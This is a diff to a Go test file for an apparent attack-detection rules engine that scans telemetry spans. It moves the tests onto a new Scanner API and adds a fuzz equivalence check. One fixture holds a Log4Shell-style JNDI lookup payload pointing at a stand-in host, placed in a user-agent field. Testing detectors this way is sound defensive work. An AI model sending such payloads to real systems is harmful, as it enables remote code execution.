@@ -4,6 +4,7 @@ import (
 	"errors"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -169,12 +170,19 @@ func TestRules(t *testing.T) {
 	}
 }
 
+// exploits returns the alerts a new Scanner of r raises on sp, built.
+func exploits(r *Rules, sp *telemetry.Span, red Redactor, receivedAt, now time.Time) []Alert {
+	var out []Alert
+	r.NewScanner(red).Exploits(sp, receivedAt, now, func(p *Pending) { out = append(out, p.Alert()) })
+	return out
+}
+
 func TestRuleAlert(t *testing.T) {
 	rules := mustRules(t)
 	sp := spanWith("user_agent.original", "${jndi:ldap://x.example/a}")
 	sp.TraceID = [16]byte{1}
 	sp.SpanID = [8]byte{2}
-	as := rules.Alerts(&sp, nil, tm(0), tm(1))
+	as := exploits(rules, &sp, nil, tm(0), tm(1))
 	if len(as) != 1 {
 		t.Fatalf("Alerts = %d alerts, want 1", len(as))
 	}
@@ -211,7 +219,7 @@ func TestRuleAlertRedacted(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			sp := spanWith(tt.field, tt.value)
-			as := rules.Alerts(&sp, red, tm(0), tm(1))
+			as := exploits(rules, &sp, red, tm(0), tm(1))
 			if len(as) != 1 {
 				t.Fatalf("Alerts = %+v, want 1 alert", as)
 			}
@@ -274,5 +282,15 @@ func FuzzDecode(f *testing.F) {
 			t.Errorf("decode(%q) = %q grew", s, d)
 		}
 		checkEquivalent(t, rules, unanchored, FieldURLQuery, s)
+		// A Scanner reports the same, scanning the value and taking it
+		// from its memo.
+		sp := spanWith(string(FieldURLQuery), s)
+		want := hits(rules.Scan, &sp)
+		sc := rules.NewScanner(nil)
+		for range 2 {
+			if diff := cmp.Diff(hits(sc.Scan, &sp), want); diff != "" {
+				t.Errorf("Scanner.Scan of %q (-got +Rules.Scan):\n%s", s, diff)
+			}
+		}
 	})
 }
